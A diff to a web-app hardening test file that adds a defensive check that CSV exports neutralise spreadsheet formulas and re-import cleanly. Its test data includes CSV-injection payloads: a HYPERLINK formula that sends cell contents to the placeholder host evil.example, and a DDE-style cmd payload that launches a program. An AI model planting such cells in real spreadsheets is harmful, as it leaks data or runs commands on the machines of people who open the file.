@@ -2,9 +2,26 @@
 // open redirects (10), CSV formula injection (9), control characters and strict
 // numbers in forms (11), the login throttle under a concurrent burst (12), and
 // HTTP compression and caching (16).
+import { parse } from "csv-parse/sync";
+import * as Y from "yjs";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { actionsOf, areasOf, goalsOf } from "../../server/domain/plan-doc";
 import { cookiesFrom, get, login, postForm } from "../helpers/http";
 import { DEMO_PASSWORD, startTestServer, type TestServer } from "../helpers/server";
+import { connect, synced } from "../helpers/yjs";
+
+/** Retry an assertion until it holds (a projection or cache catching up), for up to 5 s. */
+async function eventually(check: () => Promise<void>, timeoutMs = 5000): Promise<void> {
+  const started = Date.now();
+  for (;;) {
+    try {
+      return await check();
+    } catch (err) {
+      if (Date.now() - started > timeoutMs) throw err;
+      await new Promise((r) => setTimeout(r, 25));
+    }
+  }
+}
 
 const sessionCount = async (s: TestServer) =>
   Number((await s.db.selectFrom("sessions").select((eb) => eb.fn.countAll<number>().as("n")).executeTakeFirstOrThrow()).n);
@@ -12,7 +29,7 @@ const sessionCount = async (s: TestServer) =>
 describe("hardening (web)", () => {
   let s: TestServer;
   beforeAll(async () => {
-    s = await startTestServer();
+    s = await startTestServer({}, { collab: { projectionDelayMs: 20 } });
   });
   afterAll(() => s?.close());
 
@@ -74,6 +91,84 @@ describe("hardening (web)", () => {
       const lang = await postForm(s.url, "/language", { lang: "sv", redirectTo: "/login" });
       expect(lang.headers.get("location")).toBe("/login");
       expect(cookiesFrom(lang.headers)).toContain("samsyn_lang=sv");
+    });
+  });
+
+  describe("item 9: the follow-up CSV neutralises formulas, and its import reads them back", () => {
+    // Cells a spreadsheet would run as formulas (OWASP "CSV Injection").
+    const EVIL_TITLES = ['=HYPERLINK("https://evil.example?d="&A1;"Klicka")', "+SUM(1;2)", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "\t=1+1", "\r=1+1", "'=1+1"];
+    const EVIL_ORGS = ["=1+1", "@org", "-5"];
+    const year = new Date().getFullYear();
+    const csvPath = `/api/v1/councils/skaraborg/plans/${year}/followups.csv`;
+    const dashboard = `/councils/skaraborg/plans/${year}/dashboard`;
+
+    let planId: string;
+
+    it("writes such cells with a leading ', and export → import changes nothing", async () => {
+      const leader = await login(s.url, "processledare@samsyn.test");
+      planId = (await s.db.selectFrom("plans as p").innerJoin("councils as k", "k.id", "p.council_id").select("p.id").where("k.slug", "=", "skaraborg").where("p.year", "=", year).executeTakeFirstOrThrow()).id;
+      const editor = connect(s.url, `plan:${planId}`, leader);
+      try {
+        await synced(editor);
+        const actions = areasOf(editor.doc).toArray().flatMap((a) => goalsOf(a).toArray()).flatMap((g) => actionsOf(g).toArray()) as Y.Map<unknown>[];
+        const set = (a: Y.Map<unknown>, field: string, value: string) => {
+          const t = a.get(field) as Y.Text;
+          t.delete(0, t.length);
+          t.insert(0, value);
+        };
+        const edited = EVIL_TITLES.map((title, i) => ({ id: String(actions[i].get("id")), title, org: EVIL_ORGS[i] }));
+        editor.doc.transact(() => {
+          edited.forEach((e, i) => {
+            set(actions[i], "title", e.title);
+            if (e.org !== undefined) set(actions[i], "responsibleOrg", e.org);
+          });
+        });
+        // The projection (and so the export) follows the live document.
+        await eventually(async () => {
+          const rows = await s.db.selectFrom("plan_actions").select(["id", "title"]).where("plan_id", "=", planId).execute();
+          for (const e of edited) expect(rows.find((r) => r.id === e.id)?.title).toBe(e.title);
+        });
+      } finally {
+        editor.destroy();
+      }
+
+      const exported = await get(s.url, csvPath, leader);
+      expect(exported.status).toBe(200);
+      const rows: Record<string, string>[] = parse(exported.text, { bom: true, columns: true, delimiter: ";" });
+      const byTitleCell = new Map(rows.map((r) => [r.action_id, r]));
+      const edited = EVIL_TITLES.map((title, i) => ({ title, org: EVIL_ORGS[i] }));
+      for (const [i, e] of edited.entries()) {
+        const row = rows.find((r) => r.action === `'${e.title}`);
+        expect(row, `title ${JSON.stringify(e.title)} is neutralised`).toBeDefined();
+        if (e.org === "-5") expect(row!.responsible_org, "a plain number is left alone (decision 016)").toBe("-5");
+        else if (e.org !== undefined) expect(row!.responsible_org).toBe(`'${e.org}`);
+        expect(byTitleCell.get(row!.action_id), `row ${i}`).toBe(row);
+      }
+      // No cell at all starts as a formula, unless it is a plain number.
+      for (const r of rows)
+        for (const cell of Object.values(r)) expect(/^[=+\-@\t\r]/.test(cell) && !/^[+-]?\d+(?:[.,]\d+)?$/.test(cell), cell).toBe(false);
+
+      // The file as exported imports as "no changes", and an edit in it is applied.
+      const upload = (csv: string, intent: "preview" | "apply") => {
+        const form = new FormData();
+        form.set("intent", intent);
+        if (intent === "apply") form.set("csv", csv);
+        else form.set("file", new Blob([csv], { type: "text/csv" }), "uppfoljning.csv");
+        return fetch(s.url + dashboard, { method: "POST", body: form, headers: { cookie: leader, origin: s.url }, redirect: "manual" });
+      };
+      const followupsBefore = (await s.db.selectFrom("followups").select("id").execute()).length;
+      const same = await upload(exported.text, "preview");
+      expect(same.status).toBe(200);
+      expect(await same.text()).toContain("0 åtgärder ändras");
+      const target = rows.find((r) => r.action === `'${EVIL_TITLES[0]}`)!;
+      const lines = exported.text.split("\r\n");
+      const changed = lines.map((l) => (l.includes(`;${target.action_id};`) ? l.replace(`;${target.status};${target.progress};`, ";delayed;42;") : l)).join("\r\n");
+      expect(changed).not.toBe(exported.text);
+      const appliedRes = await upload(changed, "apply");
+      expect(appliedRes.status).toBe(200);
+      const after = () => s.db.selectFrom("plan_actions").select(["status", "progress", "title"]).where("plan_id", "=", planId).where("id", "=", target.action_id).executeTakeFirstOrThrow();
+      await eventually(async () => expect(await after()).toEqual({ status: "delayed", progress: 42, title: EVIL_TITLES[0] }));
+      expect((await s.db.selectFrom("followups").select("id").execute()).length).toBe(followupsBefore + 1);
     });
   });
 });
